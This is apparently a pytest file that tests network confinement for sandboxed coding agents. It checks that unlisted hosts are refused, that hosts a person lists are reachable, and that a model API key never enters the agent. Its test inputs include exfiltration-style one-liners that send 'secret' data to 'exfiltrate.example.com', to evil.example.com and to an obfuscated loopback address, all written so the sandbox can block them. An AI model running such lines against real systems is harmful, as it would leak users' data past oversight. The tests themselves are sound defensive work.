"""Confined agents reach what a person listed, by real commands in the sandbox of this machine."""

import shlex
import shutil
import socket
import sys
import threading
from contextlib import contextmanager
from pathlib import Path

import pytest

from hive.agents.acp.agent import Acp
from hive.agents.catalog import CatalogEntry, ModelDoor, catalog
from hive.agents.command.agent import Command
from hive.agents.means import Means
from hive.config import UserSettings
from hive.model import Ended, Said, ToolReturned
from hive.network.endpoints import endpoint
from hive.workspaces.sandbox import NoSandbox, find_sandbox
from tests.agents.acp.rig import FAKE

CONFINED = find_sandbox()
confines = pytest.mark.skipif(CONFINED.name == "none", reason="no sandbox works here")
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nanswered"


@contextmanager
def host(answer=ANSWER):
    """A service of the machine; what it hears is kept."""
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve():
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(65536))
                    connection.sendall(answer)

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield listener.getsockname()[1], heard
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join()


def python(code):
    return shlex.join([sys.executable, "-c", code])


def asking(url):
    return python(f"import urllib.request as u; print(u.urlopen({url!r}, timeout=20).read().decode())")


def command(line, *, sandbox=CONFINED, environ=None, **settings):
    return Command.with_means(Means(UserSettings(command=line, **settings), environ or {}, sandbox))


def refusals(reports):
    return [each.summary for each in reports if isinstance(each, ToolReturned) and each.tool == "network"]


def said(reports):
    return [each.text for each in reports if isinstance(each, Said)]


@confines
@pytest.mark.parametrize(
    "connect",
    [
        "socket.create_connection(('127.0.0.1', {0}), 5).sendall(b'secret')",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', {0})); s.send(b'x'); s.send(b'y')",
        "socket.getaddrinfo('exfiltrate.example.com', 443)",
        "urllib.request.urlopen('http://127.0.0.1:{0}/secret', timeout=5)",
        "urllib.request.urlopen('http://0x7f.1:{0}/secret', timeout=5)",
        "urllib.request.urlopen('http://exfiltrate.example.com/secret', timeout=5)",
    ],
)
def test_nothing_leaves_without_a_persons_word(assign, play, connect):
    with host() as (port, heard):
        body = connect.format(port)
        setup = (
            "import os, socket, urllib.request; os.environ.pop('no_proxy', 0); os.environ.pop('NO_PROXY', 0)"
        )
        code = f"{setup}\ntry:\n    {body}\nexcept OSError as error:\n    print('held', type(error).__name__)"
        reports = play(command(python(code)), assign())
    assert heard == []
    assert reports[-1] == Ended(outcome="finished")
    assert "held" in said(reports)[-1], reports


@confines
def test_a_refused_host_is_told_with_its_name(assign, play):
    reports = play(command(asking("http://evil.example.com/")), assign())
    assert refusals(reports) == ["evil.example.com:80 is not on the list of this session"]


@confines
@pytest.mark.parametrize("way", ["listed", "handed on"])
def test_what_a_person_lists_or_hands_on_is_reached(assign, play, way):
    with host() as (port, heard):
        address = f"127.0.0.1:{port}"
        given = {"network": (address,)} if way == "listed" else {"command_env": ("MY_BASE_URL",)}
        code = f"import os, urllib.request as u; os.environ.pop('no_proxy', 0); os.environ.pop('NO_PROXY', 0); print(u.urlopen('http://{address}/').read().decode())"
        reports = play(
            command(python(code), environ={"MY_BASE_URL": f"http://{address}/v1"}, **given), assign()
        )
    assert said(reports) == ["answered"], reports
    assert len(heard) == 1


@confines
def test_local_ports_work_inside(assign, play):
    code = "import socket; s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname()); print('own')"
    assert said(play(command(python(code)), assign())) == ["own"]


@confines
def test_the_registries_of_a_trusted_project_are_on_the_list_by_name_only(assign, play):
    allowed = play(command(asking("http://pypi.org:443/")), assign(network=("pypi", "evil.example.com:80")))
    assert "is not on the list" not in " ".join(refusals(allowed))  # whatever the name leads to here
    assert refusals(
        play(command(asking("http://evil.example.com/")), assign(network=("evil.example.com:80",)))
    )


def test_a_wrong_host_in_the_setting_is_named(assign, play):
    (ended,) = play(command("true", sandbox=NoSandbox(), network=("*.example.com",)), assign())
    assert "'*.example.com' is not an exact host and port" in ended.reason


def test_the_open_network_is_a_persons_choice(assign, play):
    with host() as (port, _):
        reports = play(command(asking(f"http://127.0.0.1:{port}/"), network=("open",)), assign())
    assert said(reports) == ["answered"]


@pytest.mark.parametrize("sandbox", [CONFINED, NoSandbox()], ids=lambda each: each.name)
def test_the_key_of_a_model_never_enters_the_agent(assign, play, sandbox):
    door = ModelDoor(
        base_url="MODEL_URL",
        address="https://model.example.com",
        keys=("MODEL_KEY",),
    )
    passed = ("MODEL_URL", "MODEL_KEY")
    entry = CatalogEntry(
        name="asker",
        description="",
        command=(sys.executable, str(shutil.copy(FAKE, Path(assign().workspace, "users"))), "asks"),
        install="",
        doors=(door,),
        passed=passed,
    )
    with host() as (port, heard):
        environ = {"MODEL_URL": f"http://127.0.0.1:{port}/base", "MODEL_KEY": "sk-real"}
        means = Means(UserSettings(), environ, sandbox)
        reports = play(Acp(means, entry), assign())
    assert heard[0].startswith(b"GET /base/v1/messages HTTP/1.1\r\n"), reports
    assert b"Authorization: Bearer sk-real\r\n" in heard[0]
    words = " ".join(said(reports))
    assert "answered" in words
    assert "held-by-hive" in words
    assert "sk-real" not in str(reports)


@pytest.mark.parametrize("entry", catalog().values(), ids=lambda each: each.name)
def test_the_hosts_of_the_catalogue_are_exact(entry):
    assert [str(endpoint(host)) for host in entry.hosts] == list(entry.hosts)
    assert {name for door in entry.doors for name in (door.base_url, *door.keys)} <= set(entry.passed)
